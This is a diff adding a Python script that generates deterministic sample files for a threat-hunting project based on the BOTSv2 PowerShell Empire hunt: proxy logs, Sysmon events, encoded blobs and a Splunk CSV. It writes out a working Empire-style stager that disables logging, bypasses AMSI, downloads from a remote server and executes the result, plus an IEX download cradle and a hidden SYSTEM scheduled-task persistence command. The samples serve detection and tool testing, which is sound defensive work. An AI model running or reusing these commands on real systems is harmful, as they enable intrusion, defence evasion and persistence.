@@ -1,0 +1,205 @@
+#!/usr/bin/env python3
+"""make-samples.py: writes the hunt's sample files into samples/.
+
+Everything here is made by the project from public facts of the BOTSv2 Empire
+hunt (user agent, C2 server, URIs, the ftp/whoami/schtasks sequence); no real
+malware or captured data. Deterministic: the same files every run (fixed seed),
+so golden tests can depend on them.
+
+    scripts/make-samples.py            # rewrite samples/
+"""
+import base64
+import csv
+import io
+import json
+import random
+import struct
+import zlib
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parent.parent
+OUT = ROOT / "samples"
+rng = random.Random(20170822)  # BOTSv2's day of Empire
+
+UA = "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"
+SERVER = "https://45.77.65.211:443"
+URIS = ["/admin/get.php", "/news.php", "/login/process.php"]
+PRINTABLE = "".join(chr(c) for c in range(0x21, 0x7F) if chr(c) not in "'\"`$")
+STAGING_KEY = "".join(rng.choice(PRINTABLE) for _ in range(32))
+
+
+def rc4(key: bytes, data: bytes) -> bytes:
+    s = list(range(256))
+    j = 0
+    for i in range(256):
+        j = (j + s[i] + key[i % len(key)]) % 256
+        s[i], s[j] = s[j], s[i]
+    out = bytearray()
+    i = j = 0
+    for b in data:
+        i = (i + 1) % 256
+        j = (j + s[i]) % 256
+        s[i], s[j] = s[j], s[i]
+        out.append(b ^ s[(s[i] + s[j]) % 256])
+    return bytes(out)
+
+
+def session_cookie() -> str:
+    """Empire 2.x routing packet of a launcher: IV || RC4(IV || key, header)."""
+    iv = bytes(rng.randrange(256) for _ in range(4))
+    # session id "00000000", language 1 (PowerShell), meta 1 (STAGE0), additional 0, length 0
+    header = b"00000000" + struct.pack("<BBHI", 1, 1, 0, 0)
+    return base64.b64encode(iv + rc4(iv + STAGING_KEY.encode(), header)).decode()
+
+
+def random_case(code: str) -> str:
+    """Empire randomizes the case of code, never of quoted values."""
+    out, quote = [], None
+    for ch in code:
+        if quote:
+            out.append(ch)
+            if ch == quote:
+                quote = None
+        elif ch in "'\"":
+            quote = ch
+            out.append(ch)
+        else:
+            out.append(ch.upper() if rng.random() < 0.5 else ch.lower())
+    return "".join(out)
+
+
+def empire_launcher() -> str:
+    uri = rng.choice(URIS)
+    script = (
+        "If($PSVersionTable.PSVersion.Major -ge 3){$GPS=[ref].Assembly.GetType('System.Management.Automation.Utils')"
+        ".GetField('cachedGroupPolicySettings','NonPublic,Static').GetValue($null);"
+        "$GPS['ScriptBlockLogging']['EnableScriptBlockLogging']=0;"
+        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)};"
+        "[System.Net.ServicePointManager]::Expect100Continue=0;"
+        "$wc=New-Object System.Net.WebClient;"
+        f"$u='{UA}';"
+        "[System.Net.ServicePointManager]::ServerCertificateValidationCallback = {$true};"
+        "$wc.Headers.Add('User-Agent',$u);$wc.Proxy=[System.Net.WebRequest]::DefaultWebProxy;"
+        "$wc.Proxy.Credentials = [System.Net.CredentialCache]::DefaultNetworkCredentials;"
+        f"$K=[System.Text.Encoding]::ASCII.GetBytes('{STAGING_KEY}');"
+        "$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};"
+        "$D|%{$I=($I+1)%256;$H=($H+$S[$I])%256;$S[$I],$S[$H]=$S[$H],$S[$I];$_-bxor$S[($S[$I]+$S[$H])%256]}};"
+        f"$ser='{SERVER}';$t='{uri}';"
+        f"$wc.Headers.Add(\"Cookie\",\"session={session_cookie()}\");"
+        "$data=$wc.DownloadData($ser+$t);$iv=$data[0..3];$data=$data[4..$data.length];"
+        "-join[Char[]](& $R $data ($IV+$K))|IEX"
+    )
+    return random_case(script)
+
+
+def enc(script: str) -> str:
+    return base64.b64encode(script.encode("utf-16-le")).decode()
+
+
+def launcher_cmdline(script: str) -> str:
+    return "powershell -noP -sta -w 1 -enc  " + enc(script)
+
+
+def write(name: str, text: str) -> None:
+    (OUT / name).write_text(text, newline="")
+
+
+def main() -> None:
+    OUT.mkdir(exist_ok=True)
+    launcher = empire_launcher()
+    cmdline = launcher_cmdline(launcher)
+    write("empire-launcher.cmdline", cmdline + "\n")
+    write("empire-launcher.b64", enc(launcher) + "\n")
+
+    blobs = [
+        "whoami /user",
+        "IEX (New-Object Net.WebClient).DownloadString('http://45.77.65.211:80/news.php')",
+        "Get-WmiObject Win32_OperatingSystem | Select-Object Caption, Version",
+        "net localgroup administrators",
+        "Write-Output 'Grüße aus Köln ✓'",
+    ]
+    write("blobs.txt", "".join(enc(b) + "\n" for b in blobs))
+
+    # Lines that each break one rule: the tools must report them and go on.
+    bad = [
+        enc("whoami"),                                  # good
+        "dwBoAG8AYQBtAGkA!!",                           # a character outside the alphabet
+        base64.b64encode("hi".encode("utf-16-le") + b"X").decode(),  # odd number of UTF-16 bytes
+        enc("net user"),                                # good
+        "",                                             # empty record
+    ]
+    write("blobs-bad.txt", "".join(b + "\n" for b in bad))
+
+    gz = base64.b64encode(zlib.compress(b"$s=New-Object IO.MemoryStream;# payload\n", 9)).decode()
+    write("zlib.b64", gz + "\n")
+
+    task_cmd = ("powershell.exe -NonI -W hidden -c \\\"IEX ([Text.Encoding]::UNICODE.GetString("
+                "[Convert]::FromBase64String((gp HKLM:\\Software\\Microsoft\\Network debug).debug)))\\\"")
+    schtasks = ('schtasks.exe /Create /F /RU system /SC DAILY /ST 10:51 /TN Updater /TR "' + task_cmd + '"')
+    write("schtasks.cmdline", schtasks + "\n")
+
+    proxy = [
+        f'1503443422.118 1203 10.0.2.107 TCP_TUNNEL/200 4312 CONNECT 45.77.65.211:443 - HIER_DIRECT/45.77.65.211 - "{UA}"',
+        f'1503443422.507 311 10.0.2.107 TCP_MISS/200 982 GET {SERVER}{URIS[0]} - HIER_DIRECT/45.77.65.211 text/html "{UA}"',
+        f'1503443480.013 208 10.0.2.109 TCP_MISS/200 1510 POST {SERVER}{URIS[2]} - HIER_DIRECT/45.77.65.211 application/octet-stream "{UA}"',
+        '1503443502.771 95 10.0.4.4 TCP_MISS/200 3311 GET http://www.bing.com/search?q=%22powershell+empire%22+default+uri - HIER_DIRECT/204.79.197.200 text/html "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"',
+        "Aug 22 23:21:02 fw01 kernel: ACCEPT IN=eth1 OUT=eth0 SRC=10.0.2.107 DST=45.77.65.211 PROTO=TCP SPT=49731 DPT=443",
+        "Aug 22 23:25:40 fw01 kernel: ACCEPT IN=eth1 OUT=eth0 SRC=10.0.1.100 DST=160.153.91.7 PROTO=TCP SPT=50110 DPT=21",
+    ]
+    write("proxy.log", "".join(l + "\n" for l in proxy))
+
+    # Sysmon EventID 1 in Splunk's XmlWinEventLog shape: one event per line.
+    xml = (
+        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
+        "<Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'/>"
+        "<EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode>"
+        "<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2017-08-22T23:21:35.219000000Z'/>"
+        "<EventRecordID>86413</EventRecordID><Correlation/><Execution ProcessID='1836' ThreadID='2608'/>"
+        "<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>venus.frothly.local</Computer>"
+        "<Security UserID='S-1-5-18'/></System><EventData>"
+        "<Data Name='UtcTime'>2017-08-22 23:21:35.219</Data>"
+        "<Data Name='ProcessGuid'>{A8B46A3C-BC8F-599C-0000-0010A5B72A00}</Data>"
+        "<Data Name='ProcessId'>3912</Data><Data Name='Image'>C:\\Windows\\System32\\ftp.exe</Data>"
+        "<Data Name='CommandLine'>ftp.exe -i -s:winsys32.dll</Data>"
+        "<Data Name='CurrentDirectory'>C:\\Users\\billy.tun\\AppData\\Roaming\\</Data>"
+        "<Data Name='User'>FROTHLY\\billy.tun</Data><Data Name='LogonId'>0x2A9B1F</Data>"
+        "<Data Name='IntegrityLevel'>High</Data>"
+        "<Data Name='Hashes'>SHA1=E1AD3EB5AE1CE3C3C7BB5CA6B6D4F5E1C5F2E1D2</Data>"
+        "<Data Name='ParentProcessGuid'>{A8B46A3C-BB21-599C-0000-0010C3452900}</Data>"
+        "<Data Name='ParentProcessId'>5068</Data>"
+        "<Data Name='ParentImage'>C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe</Data>"
+        f"<Data Name='ParentCommandLine'>{cmdline}</Data></EventData></Event>"
+    )
+    write("sysmon-eid1.xml", xml + "\n")
+
+    # Process creations as JSON lines (OTRF/NXLog shape: EventData at the top level).
+    children = [
+        ("C:\\Windows\\System32\\ftp.exe", "ftp.exe -i -s:winsys32.dll"),
+        ("C:\\Windows\\System32\\whoami.exe", "whoami.exe /user"),
+        ("C:\\Windows\\System32\\schtasks.exe", schtasks),
+    ]
+    lines = []
+    for n, (image, cl) in enumerate(children):
+        lines.append(json.dumps({
+            "Hostname": "venus.frothly.local", "EventID": 1, "UtcTime": f"2017-08-22 23:2{1 + n}:35.219",
+            "Image": image, "CommandLine": cl,
+            "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+            "ParentCommandLine": cmdline, "ParentProcessId": "5068",
+        }, ensure_ascii=False))
+    lines.append(json.dumps({"Hostname": "venus.frothly.local", "EventID": 1,
+                             "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                             "CommandLine": cmdline, "ParentImage": "C:\\Windows\\explorer.exe",
+                             "ParentCommandLine": "C:\\Windows\\Explorer.EXE", "ParentProcessId": "2212"}))
+    write("sysmon.jsonl", "".join(l + "\n" for l in lines))
+
+    # A Splunk `| table` export as CSV.
+    buf = io.StringIO()
+    w = csv.writer(buf, lineterminator="\n")
+    w.writerow(["_time", "host", "Image", "CommandLine", "ParentCommandLine"])
+    for n, (image, cl) in enumerate(children):
+        w.writerow([f"2017-08-22T23:2{1 + n}:35.219+0000", "wrk-klagerf", image, cl, cmdline])
+    write("splunk-export.csv", buf.getvalue())
+
+
+if __name__ == "__main__":
+    main()
